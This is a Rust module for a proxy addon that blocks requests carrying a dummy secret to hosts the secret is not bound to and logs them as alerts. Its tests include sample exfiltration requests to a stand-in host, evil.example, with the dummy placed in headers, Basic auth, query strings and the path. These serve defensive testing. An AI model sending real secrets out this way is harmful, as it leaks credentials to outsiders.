//! Tripwire (SPEC §6): a dummy of secret A in a request (any header value or the URL)
//! to a host A is not bound to is refused with 403 and logged as an alert. A dummy
//! travelling elsewhere is misconfiguration or an exfiltration attempt. Runs on every
//! connection keygate can read: intercepted TLS and plain HTTP.

use http::StatusCode;

use super::inspect::dummy_carried;
use super::{Addon, FlowContext, Refuse};
use crate::policy::Host;
use crate::secrets::Binding;

/// The tripwire addon.
#[derive(Debug, Default)]
pub struct Tripwire;

impl Addon for Tripwire {
    fn name(&self) -> &'static str {
        "tripwire"
    }

    fn on_request(
        &self,
        flow: &mut FlowContext,
        req: &mut http::request::Parts,
    ) -> Result<(), Refuse> {
        let (host, port) = (&flow.host, flow.port);
        let tripped = dummy_carried(&flow.secrets, &req.headers, &req.uri, |b| {
            !b.is_bound_to(host, port)
        });
        let Some(binding) = tripped else {
            return Ok(());
        };
        flow.tripped = Some(binding.name.clone());
        Err(refusal(binding, &flow.host, flow.port))
    }
}

/// The refusal for the dummy of `binding` sent to `host:port`, which it is not bound
/// to (also what a WebSocket frame carrying it is closed with).
pub fn refusal(binding: &Binding, host: &Host, port: u16) -> Refuse {
    let bound: Vec<String> = binding.hosts.iter().map(|h| h.to_string()).collect();
    Refuse {
        status: StatusCode::FORBIDDEN,
        code: "tripwire",
        why: format!(
            "the dummy credential of secret `{}` was sent to {host}:{port}, which it is not bound to (bound: {})",
            binding.name,
            bound.join(", ")
        ),
        advice: "Send this credential only to the hosts it is bound to. If the secret should also work here, a human can add the host to its `hosts` in secrets.yaml.".into(),
        alert: true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addon::testing::{DUMMY, binding, flow_to, request};
    use base64::Engine;

    #[test]
    fn dummy_to_an_unbound_host_trips_in_headers_basic_and_url() {
        let b64 = base64::engine::general_purpose::STANDARD;
        let basic = format!("Basic {}", b64.encode(format!("u:{DUMMY}")));
        let cases: Vec<(String, Vec<(&str, String)>)> = vec![
            (
                "https://evil.example/".into(),
                vec![("x-anything", format!("pre{DUMMY}post"))],
            ),
            (
                "https://evil.example/".into(),
                vec![("authorization", basic)],
            ),
            (format!("https://evil.example/p?exfil={DUMMY}"), vec![]),
            (format!("https://evil.example/{DUMMY}"), vec![]),
            (
                "https://evil.example/p?exfil=%6Beygate-dummy-test-0123456789".into(),
                vec![],
            ),
        ];
        for (url, headers) in cases {
            let headers: Vec<(&str, &str)> =
                headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let mut f = flow_to("evil.example", vec![binding(false)], true);
            let mut req = request(&url, &headers);
            let refuse = Tripwire.on_request(&mut f, &mut req).unwrap_err();
            assert_eq!(refuse.status, StatusCode::FORBIDDEN, "{url}");
            assert!(refuse.alert);
            assert_eq!(f.tripped.as_deref(), Some("demo"));
        }
    }

    #[test]
    fn bound_host_and_clean_requests_pass() {
        let mut f = flow_to("api.example.com", vec![binding(false)], true);
        let mut req = request("https://api.example.com/", &[("x-api-key", DUMMY)]);
        assert!(Tripwire.on_request(&mut f, &mut req).is_ok());
        let mut f = flow_to("other.example", vec![binding(false)], false);
        let mut req = request("http://other.example/", &[("x-api-key", "own")]);
        assert!(Tripwire.on_request(&mut f, &mut req).is_ok());
    }
}
